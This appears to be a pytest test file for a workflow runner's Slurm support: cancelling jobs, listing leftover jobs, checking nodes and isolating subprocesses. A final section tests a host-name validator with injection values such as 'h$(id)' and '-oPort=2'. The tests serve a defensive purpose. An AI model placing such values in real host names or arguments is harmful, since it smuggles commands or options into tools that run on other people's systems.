    tool(fake_slurm, "scancel", "echo 'scancel: error: Invalid user' >&2; exit 1\n")
    steps.cancel_job(SlurmSettings(steps.exec_types.config.types["slurm"]), "tasker-x", "3", signal="KILL")
    assert log.lines[-1] == "WARN Task 3: scancel --name=tasker-x failed: " \
                            f"{fake_slurm}/scancel exited 1: scancel: error: Invalid user"


def test_leftover_jobs_are_listed_once_per_set_of_tools_and_named_in_job_order(fake_slurm, tmp_path):
    tool(fake_slurm, "squeue", f"echo \"$*\" >> {tmp_path}/squeue.calls\n"
                               "printf '12_3|tasker-r9-1-1\\n9|tasker-r9-2-1\\n11|tasker-r9-3-1\\nnoise\\n"
                               "7|tasker-r99-1-1\\n1|tasker-r9-4-1\\n16+1|tasker-r9-5-1\\n14|mine|tasker-r9-6-1\\n"
                               "15|tasker-r9-7-1|x\\n'\n")
    log = Log()
    types = exec_types(slurm_type(str(fake_slurm / "srun")))
    types.config.types["other"] = slurm_type(str(fake_slurm / "srun"))
    steps = SlurmSteps(ProcessRunner(), types, log, run_id="r10")
    assert steps.cancel_leftovers("r9") == 6
    user = f"--user={pwd.getpwuid(os.getuid()).pw_name}"
    assert (tmp_path / "squeue.calls").read_text() == f"--noheader --format=%i|%j {user}\n"
    assert (tmp_path / "scancel.calls").read_text() == "--quiet 12_3 9 11 1 16+1 15\n"
    assert log.lines == ["WARN Cancelled 6 Slurm job(s) still queued or running from the previous attempt "
                         "(run r9): 16+1, 1, 9, 11, 12_3, 15"]
    tool(fake_slurm, "scancel", "echo 'scancel: error: gone' >&2; exit 1\n")
    assert steps.cancel_leftovers("r9") == 6
    assert log.lines[1] == f"WARN scancel of the previous attempt's jobs failed: {fake_slurm}/scancel exited 1: " \
                           "scancel: error: gone"


def test_a_queue_that_cannot_be_listed_does_not_stop_the_next_one(fake_slurm, tmp_path):
    tool(fake_slurm, "squeue", "printf '8|tasker-r9-1-1\\n'\n")
    types = ExecTypes(environ={})
    types.use_config(ExecConfig())
    types.config.types["broken"] = slurm_type(str(tmp_path / "nowhere" / "srun"))
    types.config.types["slurm"] = slurm_type(str(fake_slurm / "srun"))
    log = Log()
    assert SlurmSteps(ProcessRunner(), types, log, run_id="r10").cancel_leftovers("r9") == 1
    assert log.lines[0].startswith("WARN Cannot list the Slurm jobs of the previous attempt: ")


def test_no_leftovers_or_a_queue_that_cannot_be_listed_is_said_so(fake_slurm):
    log = Log()
    steps = steps_for(fake_slurm, log)
    assert steps.cancel_leftovers("r9") == 0         # no squeue next to srun
    assert log.lines == [f"WARN Cannot list the Slurm jobs of the previous attempt: {fake_slurm}/squeue is not "
                         "installed (not on PATH)",
                         "INFO No Slurm job of the previous attempt (run r9) is queued or running"]


@pytest.mark.parametrize(("sinfo", "host", "partition", "answer"), [
    ("n1|down*|batch\\nn2|drain|batch\\n", "any", "", ("connection", "no node is up (down*, drain)")),
    ("n1|idle|batch\\n", "", "gpu", ("connection", "sinfo lists no node in partition 'gpu'")),
    ("", "any", "", ("connection", "sinfo lists no node in the cluster")),
    ("n1|idle|batch\\nn2|idle|gpu\\n", "ANY", "gpu", None),
    ("n1|idle|batch\\nbroken line\\nn1|down|gpu\\n", "n1", "gpu", None),    # the first state of a node counts
    ("n1|idle|batch|extra\\n", "n1", "", ("dns", "not a node of the Slurm cluster (sinfo does not list it)")),
    ("n1|idle|b\\nn1|idle|a\\n", "n1", "c", ("connection", "node is not in partition 'c' (it is in a, b)")),
])
def test_node_checks_for_any_node_and_for_partitions(fake_slurm, sinfo, host, partition, answer):
    tool(fake_slurm, "sinfo", f"printf '{sinfo}'\n")
    spec = slurm_type(str(fake_slurm / "srun"), **({"partition": partition} if partition else {}))
    assert NodeTable().check(spec, host) == answer


def test_sinfo_is_asked_once_per_tool(fake_slurm, tmp_path):
    tool(fake_slurm, "sinfo", f"echo \"$*\" >> {tmp_path}/sinfo.calls; printf 'n1|idle|b\\n'\n")
    table = NodeTable()
    spec = slurm_type(str(fake_slurm / "srun"))
    assert [table.check(spec, host) for host in ("n1", "any", "n1")] == [None, None, None]
    assert (tmp_path / "sinfo.calls").read_text() == "--noheader --Node --format=%N|%t|%R\n"


def test_slurm_tool_problems_are_plain_sentences(fake_slurm, monkeypatch):
    tool(fake_slurm, "quiet-fail", "exit 2\n")
    tool(fake_slurm, "slow", "exec sleep 60\n")
    (fake_slurm / "not-executable").write_text("")
    assert _query(str(fake_slurm / "quiet-fail")) == ("", f"{fake_slurm}/quiet-fail exited 2")
    assert _query(str(fake_slurm / "not-executable")) == ("", f"cannot start {fake_slurm}/not-executable: "
                                                              "Permission denied")
    monkeypatch.setattr("tasker.runners.slurm.TOOL_TIMEOUT", 0.5)
    assert _query(str(fake_slurm / "slow")) == ("", f"{fake_slurm}/slow gave no answer within 0.5 s")
    assert _query("echo", "a  b") == ("a  b\n", "")
    tool(fake_slurm, "odd", "printf 'n\\377\\n'; printf 'bad \\377\\n' >&2; exit 1\n")
    assert _query(str(fake_slurm / "odd")) == ("", f"{fake_slurm}/odd exited 1: bad \ufffd")
    tool(fake_slurm, "odd-ok", "printf 'n\\377\\n'\n")
    assert _query(str(fake_slurm / "odd-ok")) == ("n\ufffd\n", "")
    # a session of its own: a Ctrl-C meant for tasker does not reach it half-way
    tool(fake_slurm, "session", 'read -r _ _ _ _ _ sid _ < /proc/$$/stat; echo "$sid $$"\n')
    sid, pid = _query(str(fake_slurm / "session"))[0].split()
    assert sid == pid
    # and tasker's own stdin never reaches it
    tool(fake_slurm, "reader", "cat\n")
    saved = os.dup(0)
    read_end, write_end = os.pipe()
    os.write(write_end, b"tasker's input\n")
    os.close(write_end)
    os.dup2(read_end, 0)
    try:
        assert _query(str(fake_slurm / "reader")) == ("", "")
    finally:
        os.dup2(saved, 0)
        os.close(saved)
        os.close(read_end)


def test_slurm_types_in_a_workflow_are_found_before_it_runs():
    types = exec_types(slurm_type())
    types.config.types["plain"] = ExecType("plain", {"binary": "x"})
    types.config.aliases["cluster"] = "slurm"

    def workflow(exec_line: str):
        wf, diags = compile_text(f"task=0\nhostname=n1\ncommand=true\n{exec_line}\n\ntask=1\nhostname=n1\n"
                                 "command=true\nexec=local\n")
        assert not diags.errors, diags.errors
        return wf

    decision = compile_text("task=0\ntype=decision\nsuccess=1==1\non_success=1\non_failure=1\n\n"
                            "task=1\nhostname=n1\ncommand=true\nexec=slurm\n")[0]
    assert uses_slurm(decision, types)               # a task without a command is passed over
    types.config.types["local"] = slurm_type()      # exec=local is the built-in type whatever the file says
    assert not uses_slurm(workflow("exec=local"), types)
    assert uses_slurm(workflow("exec=slurm"), types)
    assert uses_slurm(workflow("exec=Cluster"), types)
    assert uses_slurm(workflow("exec=@0_STDOUT@"), types)                 # known only at run time
    assert not uses_slurm(workflow("exec=plain"), types)
    assert not uses_slurm(workflow("exec=local"), types)
    only_plain = ExecTypes(environ={})
    only_plain.use_config(ExecConfig("c.yaml", {"platforms": {"linux": {"plain": {"binary": "x"}}}}))
    assert not uses_slurm(workflow("exec=@0_STDOUT@"), only_plain)
    by_default = ExecTypes(environ={"TASK_EXECUTOR_TYPE": "slurm"})      # no exec=: the default type
    by_default.use_config(types.config)
    assert uses_slurm(workflow(""), by_default)


# ------------------------------------------------------------ host names chosen at run time

@pytest.mark.parametrize(("value", "dynamic", "problem"), [
    ("h$(id)", True, "hostname contains shell command syntax `$(id)`; hostname contains the shell character '$'"),
    ("-oPort=2", False, "hostname '-oPort=2' starts with '-': a remote tool would read it as an option"),
    ("-x", True, "hostname '-x' starts with '-': a remote tool would read it as an option"),
    ("a;b", False, None),                       # written in the file: checked before the run
    ("a;b", True, "hostname contains the shell character ';'"),
    ("a;" + "b" * 260, True,
     "hostname is 262 characters long; the limit is 253; hostname contains the shell character ';'"),
    ("user@host", True, None),                  # only a warning before the run: not refused
    ("good-host.example", True, None),
])
def test_runtime_host_problem(value, dynamic, problem):
    assert runtime_host_problem(value, "ssh", dynamic) == problem


def test_runtime_host_problem_for_a_shell_exec_type_skips_the_literal_syntax_check():
    assert runtime_host_problem("h$(id)", "shell", True) == "hostname contains the shell character '$'"
